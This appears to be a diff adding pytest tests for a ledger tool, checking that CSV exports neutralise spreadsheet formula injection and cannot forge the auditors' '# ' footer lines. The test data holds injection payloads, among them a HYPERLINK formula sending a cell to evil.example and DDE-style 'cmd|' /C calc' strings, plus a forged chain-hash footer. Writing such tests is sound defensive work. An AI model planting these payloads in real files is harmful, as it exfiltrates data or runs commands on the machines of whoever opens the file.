@@ -1,0 +1,157 @@
+"""What auditors open must be safe to open: CSV cells.
+
+A memo, reference, key or metadata value is written by whoever posted the
+entry. In a CSV file it must stay text in a spreadsheet (no formula) and
+must never start a physical line of its own (which could forge the ``# ``
+footer auditors read).
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import re
+from decimal import Decimal
+
+from click.testing import CliRunner
+
+import ledger
+from ledger import exports
+from cli import main
+
+D = dt.date
+BANK = "assets:custody:bank"
+U1 = "liabilities:users:u1:available"
+FEES = "income:platform:fees:service"
+
+FORGED = "ok\n# chain hash at that point: " + "0" * 64 + "\n# as of: 2020-01-01"
+HOSTILE = {  # memo -> what a spreadsheet must be shown
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")': "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    "+1+2": "'+1+2",
+    "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
+    "@SUM(A1:A2)": "'@SUM(A1:A2)",
+    "\t=1": "'\t=1",
+    "\r=1": "'\\r=1",
+    "-5.00": "'-5.00",
+    FORGED: "ok\\n# chain hash at that point: " + "0" * 64 + "\\n# as of: 2020-01-01",
+    "a\\nb": "a\\\\nb",
+    "line one\r\nline two\u2028three": "line one\\r\\nline two\\u2028three",
+    "plain memo, 备注": "plain memo, 备注",
+}
+
+
+def invoke(*args):
+    return CliRunner().invoke(main, list(args), catch_exceptions=False)
+
+
+def hostile_book(book):
+    book.open_account(BANK, "asset")
+    book.open_account(U1, "liability")
+    book.open_account(FEES, "income")
+    for i, memo in enumerate(HOSTILE):
+        book.post([(BANK, "1.00"), (U1, "-1.00")], key=f"k{i}", effective_date=D(2026, 10, 1 + i),
+                  memo=memo, external_ref="=1+1" if i == 0 else None)
+    book.post([(U1, "5.00"), (BANK, "-5.00")], key="-cmd|' /C calc'!A0", kind="refund",
+              effective_date=D(2026, 10, 20), external_ref="@ref", metadata={"note": FORGED})
+    book.post([(U1, "0.50"), (FEES, "-0.50")], key="fee", kind="fee", effective_date=D(2026, 10, 21),
+              memo="#1 fee")
+    return book
+
+
+def check_lines(text: str) -> list[list[str]]:
+    """Every physical line before the footer is a data row; the footer is the last ``# `` lines."""
+    lines = text.split("\n")
+    assert lines[-1] == ""
+    lines = lines[:-1]
+    footer = [x for x in lines if x.startswith("#")]
+    assert footer and lines[-len(footer):] == footer  # only the footer starts with "#"
+    assert sum(x.startswith("# chain hash at that point: ") for x in lines) == 1
+    assert not any(re.search(r"[\r\u2028\u2029\x0b\x0c\x1c-\x1e\x85]", x) for x in lines)
+    rows = list(csv.reader(io.StringIO("\n".join(lines[:-len(footer)]) + "\n")))
+    assert len(rows) == len(lines) - len(footer)  # one physical line per row
+    return rows
+
+
+# --- the rule --------------------------------------------------------------------------------------
+def test_csv_text_cells_are_neutralised_and_other_cells_kept():
+    from ledger.exports import csv_row, csv_text
+
+    for raw, shown in HOSTILE.items():
+        assert csv_text(raw) == shown, raw
+    assert csv_text("") == ""
+    assert csv_text("'=already quoted") == "'=already quoted"
+    # amounts, dates, ids and empty cells are not text: never prefixed
+    assert csv_row([7, D(2026, 1, 2), Decimal("-5.00"), -500, None, True, "-x"]) == [
+        7, "2026-01-02", Decimal("-5.00"), -500, "", True, "'-x"]
+    assert csv_row([dt.datetime(2026, 1, 2, 3, 4, 5)]) == ["2026-01-02T03:04:05"]
+    # a row never starts with "#": a text first cell beginning with it is quoted
+    assert csv_row(["# chain hash at that point: x", "#y"]) == ["'# chain hash at that point: x", "#y"]
+
+
+# --- the CSV outputs -------------------------------------------------------------------------------
+def test_journal_csv_cells_cannot_be_formulas_or_forge_the_footer(book):
+    hostile_book(book)
+    out = io.StringIO()
+    exports.write_journal(book, out, fmt="csv")
+    rows = check_lines(out.getvalue())
+    head, data = rows[0], rows[1:]
+    col = {name: i for i, name in enumerate(head)}
+    memos = [r[col["memo"]] for r in data if r[col["position"]] == "0"]
+    assert memos == list(HOSTILE.values()) + ["", "#1 fee"]
+    first = next(r for r in data if r[col["key"]] == "k0")
+    assert first[col["external_ref"]] == "'=1+1"
+    refund = [r for r in data if r[col["kind"]] == "refund"]
+    assert {r[col["key"]] for r in refund} == {"'-cmd|' /C calc'!A0"}
+    assert {r[col["external_ref"]] for r in refund} == {"'@ref"}
+    assert "\\n# chain hash" in refund[0][col["metadata"]]
+    # amounts and ids stay as they are
+    assert [r[col["amount"]] for r in refund] == ["5.00", "-5.00"]
+    assert [r[col["amount_minor"]] for r in refund] == ["500", "-500"]
+    assert all(r[col["entry_id"]].isdigit() for r in data)
+
+
+def test_journal_csv_through_the_cli(db_url):
+    book = hostile_book(ledger.open(db_url))
+    book.dispose()
+    result = invoke("journal", "--db", db_url)
+    assert result.exit_code == 0
+    rows = check_lines(result.stdout)
+    assert len(rows) == 1 + 2 * (len(HOSTILE) + 2)
+
+
+def test_statement_and_report_csv_cells_cannot_be_formulas(db_url):
+    book = hostile_book(ledger.open(db_url))
+    book.dispose()
+    result = invoke("statement", U1, "--from", "2026-10-01", "--to", "2026-10-31", "--format", "csv",
+                    "--db", db_url)
+    assert result.exit_code == 0, result.output
+    rows = check_lines(result.stdout)
+    assert rows[0] == ["date", "entry", "kind", "reference", "memo", "amount", "balance"]
+    memos = [r[4] for r in rows[2:-1]]
+    assert memos == list(HOSTILE.values()) + ["", "#1 fee"]
+    assert rows[2][3] == "'=1+1"
+    refund = next(r for r in rows if r[2] == "refund")
+    assert refund[3] == "'@ref" and refund[5] == "-5.00"  # an amount is never quoted
+    assert rows[-1][2] == "closing balance" and rows[-1][6] == f"{len(HOSTILE) - 5.5:.2f}"
+    for args in (["trial-balance"], ["balance-sheet"],
+                 ["income-statement", "--from", "2026-10-01", "--to", "2026-10-31"]):
+        result = invoke(*args, "--format", "csv", "--db", db_url)
+        assert result.exit_code == 0 and check_lines(result.stdout)[1:]
+
+
+def test_emit_csv_uses_the_same_rule(db_url, capsys):
+    from ledger.commands.common import emit
+
+    emit([{"who": "# forged", "note": "=1+2", "amount": Decimal("-5.00"),
+           "day": D(2026, 1, 2), "memo": FORGED}], ["who", "note", "amount", "day", "memo"], "csv")
+    out = capsys.readouterr().out
+    assert out.split("\n")[1:] == [
+        "'# forged,'=1+2,-5.00,2026-01-02,ok\\n# chain hash at that point: " + "0" * 64
+        + "\\n# as of: 2020-01-01", ""]
+    book = ledger.open(db_url)
+    book.dispose()
+    result = invoke("period", "close", "2026-01", "--by", "=cmd|'/C calc'!A0", "--db", db_url)
+    assert result.exit_code == 0, result.output
+    result = invoke("period", "list", "--format", "csv", "--db", db_url)
+    assert next(csv.reader(io.StringIO(result.output.splitlines()[1])))[3] == "'=cmd|'/C calc'!A0"
